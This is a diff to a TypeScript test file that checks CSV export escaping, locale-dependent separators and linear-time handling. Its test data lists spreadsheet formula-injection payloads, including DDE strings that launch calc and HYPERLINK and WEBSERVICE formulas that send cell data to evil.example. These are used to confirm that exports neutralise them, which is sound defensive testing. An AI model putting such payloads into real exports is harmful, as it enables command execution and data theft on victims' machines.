@@ -5,6 +5,8 @@ import {
   answersFile,
   csvParts,
   type CsvTable,
+  type Separator,
+  separatorIn,
   submissionsFileName,
   submissionsTable,
   subscriptionsFileName,
@@ -12,8 +14,8 @@ import {
 } from "../../../src/web/admin/data/csv.ts";
 
 /** The whole of a file whose list is short enough for one part. */
-function csv<T>(table: CsvTable<T>, rows: T[]): string {
-  const { head, lines } = csvParts(table);
+function csv<T>(table: CsvTable<T>, rows: T[], separator: Separator = ","): string {
+  const { head, lines } = csvParts(table, separator);
   return head + lines(rows);
 }
 const tableOf = (columns: string[]) => ({ columns, row: (cells: string[]) => cells });
@@ -33,29 +35,96 @@ test("commas, quotes and line breaks round-trip through a CSV library", () => {
   expect(parse(csv(tableOf(["One", "Two, too"]), rows))).toEqual([["One", "Two, too"], ...rows]);
 });
 
-const FORMULAS = [
+test.each([
   "=1+1",
-  "+44",
-  "-2",
-  "@SUM(A1)",
+  "  =1",
+  "＝1",
   "\t=1",
   "\r=1",
   "\n=1",
-  "＝1",
-  "＋1",
-  "－1",
-  "＠x",
-];
-test.each([...FORMULAS, "  =1", "\u00a0+1"])(
-  "the cell and the header %j get a leading apostrophe",
-  (cell) => {
-    expect(parse(csv(tableOf([cell]), [[cell]]))).toEqual([[`'${cell}`], [`'${cell}`]]);
-  },
-);
+  "\tx",
+  "+1+1",
+  "-2+3",
+  "＋1＋1",
+  "\u00a0+1*2",
+  "-5%",
+  "+A1",
+  "-$B$2",
+  "+A1*2",
+  "-A1:B2",
+  "@A1+1",
+  "@SUM(A1)",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-cmd|' /C calc'!A0",
+  "+44|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '+HYPERLINK("https://evil.example?x="&A1,"Error")',
+  '-1+hyperlink ("https://evil.example")',
+  '@WEBSERVICE("https://evil.example")',
+  '-IMPORTXML ("https://evil.example")',
+  "+'[other.xlsx]Sheet1'!A1",
+  "-Sheet1!A1",
+  "＠SUM(1)",
+])("a spreadsheet would calculate %j: the cell and the header get a leading apostrophe", (cell) => {
+  expect(parse(csv(tableOf([cell]), [[cell]]))).toEqual([[`'${cell}`], [`'${cell}`]]);
+});
 
-test("other cells stay as they are", () => {
-  const cells = ["a=b", "1-2", "ann@example.com", "'x", "{}"];
-  expect(parse(csv(tableOf(cells), [cells]))).toEqual([cells, cells]);
+test.each([
+  "a=b",
+  "1-2",
+  "ann@example.com",
+  "'x",
+  "{}",
+  "+44 7700 900123",
+  "+447700900123",
+  "+44 (0)20 7946 0958",
+  "+44(0)20-7946-0958",
+  "+49 30/123456",
+  "+44 7700 900123 ext 12",
+  "+44 7700 900123 x12",
+  "+1-800-555-0199",
+  "+1.800.555.0199",
+  "＋44 7700 900123",
+  "@annlee",
+  "@ann.lee_99",
+  "@bob99",
+  "＠annlee",
+  "-",
+  "- two shows",
+  "-two shows",
+  "- two shows (matinee, evening)",
+  "- great show! Thanks",
+  "- Tom & Jerry",
+  "- A4 paper",
+  "-- Ann",
+  "-5",
+  "-5.50",
+  "-1,234.5",
+  "+1",
+  "+1 guest",
+])("%j is as it was typed", (cell) => {
+  expect(parse(csv(tableOf([cell]), [[cell]]))).toEqual([[cell], [cell]]);
+});
+
+test("whatever is typed is looked at in linear time", () => {
+  const start = performance.now();
+  for (const unit of ["+", "-1", "@a", "+(", "-a1", "+ ", "-x(", "+hyperlink ", "+1 x"])
+    csv(tableOf(["A"]), [[unit.repeat(50_000)]]);
+  expect(performance.now() - start).toBeLessThan(2000);
+});
+
+test("where the site's language writes decimal commas, semicolons separate the columns", () => {
+  for (const language of ["de", "es", "fr", "it", "nl", "pl", "pt"])
+    expect(separatorIn(language)).toBe(";");
+  for (const language of ["en", "en-GB", "ja", "he"]) expect(separatorIn(language)).toBe(",");
+  const rows = [
+    ["a,b", "c;d"],
+    ["1,5", ""],
+  ];
+  const text = csv(tableOf(["One", "Two"]), rows, ";");
+  expect(text).toBe('\uFEFFOne;Two\r\n"a,b";"c;d"\r\n"1,5";');
+  expect(parse(text)).toEqual([["One", "Two"], ...rows]);
 });
 
 const FOLLOWED_UP = {
@@ -71,7 +140,7 @@ const FIRST = ["Submission ID", "Status", "Submitted At", "Stage", "Reminder", "
 const STANDING = ["In conversation", "2027-03-14", "Twelve weeks", "Then\n=First"];
 
 test("answers by question: every line has all columns, also of a question that came up later", async () => {
-  const file = answersFile();
+  const file = answersFile(",");
   const ask = (id: string, label: string, answer: string | string[]) => ({
     id,
     label,
@@ -95,7 +164,7 @@ test("answers by question: every line has all columns, also of a question that c
   expect(parse(text)).toEqual([
     [...FIRST, "Name", "Times", "Town", "Data"],
     ["1", "new", "", ...STANDING, "Ann,\n=1", "x, y", "", ""],
-    ["2", "new", "", ...STANDING, "Ben", "", "'-", ""],
+    ["2", "new", "", ...STANDING, "Ben", "", "-", ""],
     ["3", "new", "", ...STANDING, "", "", "", '{"q":1}'],
   ]);
 });
@@ -153,6 +222,6 @@ test("a file made part by part is the same as one made at once", () => {
     ["a,b", "two\nlines"],
     ["é", ""],
   ];
-  const { head, lines } = csvParts(table);
+  const { head, lines } = csvParts(table, ",");
   expect(head + lines(rows.slice(0, 2)) + lines(rows.slice(2))).toBe(csv(table, rows));
 });
